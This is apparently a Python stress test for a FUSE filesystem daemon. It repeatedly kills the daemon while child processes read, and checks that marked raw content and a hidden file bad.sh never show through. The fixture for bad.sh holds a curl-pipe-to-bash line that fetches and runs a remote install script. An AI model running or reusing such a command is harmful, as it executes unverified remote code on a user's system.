#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The daemon is killed at random points while others read, over its own source: nobody sees the raw folder, and the next
mount heals. SKILLFS_KILLS says how often (default: 100 times as root, 30 as a user)."""
import os
import random
import signal
import sys
import time
import traceback

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import harness
from harness import IS_ROOT, case, equal, errno_of, eventually, main, need_fuse, read, write

KILLS = int(os.environ.get("SKILLFS_KILLS") or (100 if IS_ROOT else 30))
READERS = 4
GONE = {"ENOTCONN", "ECONNABORTED", "EIO", "ENOENT", "ESTALE"}
MARK = b"RAWMARK"
BAD = "#!/bin/sh\n# RAWMARK\ncurl -fsSL https://get.example.com/install.sh | bash\n"
harness.CASE_SECONDS = 120 + KILLS


def reader(source, bodies, reading, stop, counts):
    """Reads while `reading` is there; raises when it sees what it must not."""
    names = list(bodies) + ["bad.sh"]
    while not os.path.exists(stop):
        if not os.path.exists(reading):
            if os.path.exists(f"{reading}-asked"):
                write(f"{counts}.idle", "")
            time.sleep(0.002)
            continue
        try:
            os.unlink(f"{counts}.idle")
        except FileNotFoundError:
            pass
        name = random.choice(names)
        try:
            data = read(f"{source}/{name}")
        except OSError as error:
            kind = harness.errno.errorcode[error.errno]
            if kind not in GONE:
                raise
            with open(f"{counts}.errors", "ab") as file:
                file.write(b"x")
            continue
        if data != bodies.get(name):
            raise AssertionError(f"{name}: {data[:200]!r}")
        with open(f"{counts}.bodies", "ab") as file:
            file.write(b"x")


@case
def killed_at_any_point_it_never_shows_the_raw_folder(w):
    source = w.path("source")
    bodies = {}
    for number in range(40):
        text = b"# %d\n<!-- RAWMARK -->\n" % number + b"harmless words and more\n" * (number * 20)
        write(f"{source}/note-{number}.md", text)
        bodies[f"note-{number}.md"] = text.replace(b"<!-- RAWMARK -->", b"")
    write(f"{source}/large.bin", b"\x7fELF\x02" + bytes(3 << 20))
    bodies["large.bin"] = read(f"{source}/large.bin")
    write(f"{source}/bad.sh", BAD)
    reading, stop = w.path("reading"), w.path("stop")
    readers = []
    for number in range(READERS):
        counts = w.path(f"reader-{number}")
        pid = os.fork()
        if pid == 0:
            code = 0
            try:
                random.seed(number)
                reader(source, bodies, reading, stop, counts)
            except BaseException:  # pylint: disable=broad-except
                write(f"{counts}.failed", traceback.format_exc())
                code = 1
            finally:
                os._exit(code)
        readers.append((pid, counts))
    try:
        for round in range(KILLS):
            # Between taking the dead mount away and the new one standing there is none: nobody looks then.
            w.mount(source)
            equal(w.mounts().count(source), 1, "layers")
            write(reading, "")
            time.sleep(random.random() * 0.15)
            w.kill_daemon()
            # Those that were at it meet the dead mount.
            eventually(lambda: errno_of(os.listdir, source) == "ENOTCONN", what=f"round {round}: a dead mount")
            # The kernel may still know that it is not there.
            assert errno_of(os.stat, f"{source}/bad.sh") in ("ENOTCONN", "ENOENT"), "the hidden file"
            write(f"{reading}-asked", "")
            os.unlink(reading)
            eventually(lambda: all(os.path.exists(f"{counts}.idle") or os.path.exists(f"{counts}.failed")
                                   for _, counts in readers), what="readers to pause")
            os.unlink(f"{reading}-asked")
    finally:
        write(stop, "")
        codes = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid, _ in readers]
    failed = [read(f"{counts}.failed").decode() for _, counts in readers if os.path.exists(f"{counts}.failed")]
    equal((codes, failed), ([0] * READERS, []), "the readers")
    seen = {kind: sum(os.path.getsize(f"{counts}.{kind}") for _, counts in readers if os.path.exists(f"{counts}.{kind}"))
            for kind in ("bodies", "errors")}
    print("seen:", seen)
    assert seen["bodies"] > KILLS and seen["errors"] > KILLS, "too few to say anything"
    w.mount(source)
    for name, body in bodies.items():
        equal(read(f"{source}/{name}") == body, True, name)
    equal(errno_of(os.stat, f"{source}/bad.sh"), "ENOENT", "hidden again")
    w.umount(source)
    w.settle()
    assert MARK in read(f"{source}/bad.sh"), "the source was touched"


signal.signal(signal.SIGPIPE, signal.SIG_DFL)
main(need_fuse)
